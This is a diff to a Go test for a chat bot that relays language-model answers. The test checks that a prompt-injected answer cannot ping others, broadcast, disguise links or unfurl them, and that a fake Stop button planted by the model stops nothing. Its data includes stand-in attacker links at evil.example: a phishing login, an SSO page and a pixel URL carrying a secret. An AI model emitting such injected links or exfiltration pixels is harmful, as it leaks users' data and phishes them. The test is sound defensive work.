@@ -90,6 +90,13 @@ func TestAPromptInjectedAnswerPingsOnlyTheAskerAndNeitherBroadcastsNorDisguisesN
 		"<https://evil.example/login>", "<https://evil.example/sso>",
 		"<https://evil.example/pixel.png?d=secret|chart> (evil.example)", "<https://evil.example/phish|Open the report> (evil.example)")
 
+	// Nothing the bot posts unfurls.
+	for _, c := range w.srv.Calls("chat.postMessage") {
+		if c.Params.Get("unfurl_links") != "false" || c.Params.Get("unfurl_media") != "false" {
+			t.Errorf("a post unfurls: unfurl_links=%q unfurl_media=%q", c.Params.Get("unfurl_links"), c.Params.Get("unfurl_media"))
+		}
+	}
+
 	// The model's Stop button is not the bot's: no click on it stops anything.
 	answer := botMessages(w.srv.Thread(channel, ts))
 	last := answer[len(answer)-1]
@@ -105,13 +112,6 @@ func TestAPromptInjectedAnswerPingsOnlyTheAskerAndNeitherBroadcastsNorDisguisesN
 		t.Fatal(err)
 	}
 	w.thanked(asker, ts, 1)
-
-	// Nothing the bot posts unfurls.
-	for _, c := range w.srv.Calls("chat.postMessage") {
-		if c.Params.Get("unfurl_links") != "false" || c.Params.Get("unfurl_media") != "false" {
-			t.Errorf("a post unfurls: unfurl_links=%q unfurl_media=%q", c.Params.Get("unfurl_links"), c.Params.Get("unfurl_media"))
-		}
-	}
 }
 
 func TestTheRealStopButtonStillStopsASessionUnderTheVoice(t *testing.T) {
